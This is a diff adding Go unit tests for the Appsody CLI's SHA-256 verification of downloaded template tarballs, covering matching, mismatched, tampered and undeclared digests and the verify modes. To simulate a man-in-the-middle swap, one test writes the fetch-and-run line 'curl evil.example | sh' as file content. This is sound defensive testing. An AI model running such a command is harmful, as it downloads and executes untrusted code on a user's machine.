@@ -0,0 +1,126 @@
+// Copyright © 2019 NAME HERE <EMAIL ADDRESS>
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+//     http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+
+package cmd
+
+import (
+	"crypto/sha256"
+	"encoding/hex"
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+func writeTempTarball(t *testing.T, content []byte) string {
+	t.Helper()
+	dir, err := ioutil.TempDir("", "appsody-verify-test")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(dir) })
+
+	path := filepath.Join(dir, "stack.tar.gz")
+	if err := ioutil.WriteFile(path, content, 0644); err != nil {
+		t.Fatal(err)
+	}
+	return path
+}
+
+func TestCheckDigestAcceptsMatchingSHA256(t *testing.T) {
+	content := []byte("a perfectly ordinary template tarball")
+	path := writeTempTarball(t, content)
+
+	sum := sha256.Sum256(content)
+	entry := ProjectEntry{SHA256: hex.EncodeToString(sum[:])}
+
+	if err := checkDigest(entry, path); err != nil {
+		t.Fatalf("checkDigest returned an error for a matching digest: %v", err)
+	}
+}
+
+func TestCheckDigestRejectsMismatchedSHA256(t *testing.T) {
+	content := []byte("a perfectly ordinary template tarball")
+	path := writeTempTarball(t, content)
+
+	entry := ProjectEntry{SHA256: hex.EncodeToString(make([]byte, sha256.Size))}
+
+	if err := checkDigest(entry, path); err == nil {
+		t.Fatal("expected checkDigest to reject a tarball whose digest doesn't match the index")
+	}
+}
+
+func TestCheckDigestRejectsTamperedTarball(t *testing.T) {
+	content := []byte("a perfectly ordinary template tarball")
+	path := writeTempTarball(t, content)
+
+	sum := sha256.Sum256(content)
+	entry := ProjectEntry{SHA256: hex.EncodeToString(sum[:])}
+
+	// simulate a MITM swapping the tarball contents after the index was
+	// published but before verification runs
+	if err := ioutil.WriteFile(path, []byte("appsody-init.sh: curl evil.example | sh"), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	if err := checkDigest(entry, path); err == nil {
+		t.Fatal("expected checkDigest to reject a tampered tarball")
+	}
+}
+
+func TestCheckDigestSkipsWhenNoDigestDeclared(t *testing.T) {
+	content := []byte("a perfectly ordinary template tarball")
+	path := writeTempTarball(t, content)
+
+	if err := checkDigest(ProjectEntry{}, path); err != nil {
+		t.Fatalf("checkDigest should be a no-op when the index declares no digest, got: %v", err)
+	}
+}
+
+func TestVerifyTemplateOffModeSkipsVerification(t *testing.T) {
+	content := []byte("a perfectly ordinary template tarball")
+	path := writeTempTarball(t, content)
+
+	origMode := verifyMode
+	verifyMode = verifyOff
+	defer func() { verifyMode = origMode }()
+
+	index := &RepoIndex{Projects: map[string][]ProjectEntry{
+		"mystack": {{SHA256: hex.EncodeToString(make([]byte, sha256.Size))}},
+	}}
+
+	if err := verifyTemplate(index, "mystack", path); err != nil {
+		t.Fatalf("verifyTemplate should not verify at all with --verify=off, got: %v", err)
+	}
+}
+
+func TestVerifyTemplateStrictModeDeletesTarballOnMismatch(t *testing.T) {
+	content := []byte("a perfectly ordinary template tarball")
+	path := writeTempTarball(t, content)
+
+	origMode := verifyMode
+	verifyMode = verifyStrict
+	defer func() { verifyMode = origMode }()
+
+	index := &RepoIndex{Projects: map[string][]ProjectEntry{
+		"mystack": {{SHA256: hex.EncodeToString(make([]byte, sha256.Size))}},
+	}}
+
+	if err := verifyTemplate(index, "mystack", path); err == nil {
+		t.Fatal("expected verifyTemplate to fail for a mismatched digest under --verify=strict")
+	}
+	if _, err := os.Stat(path); !os.IsNotExist(err) {
+		t.Fatal("expected verifyTemplate to remove the unverified tarball under --verify=strict")
+	}
+}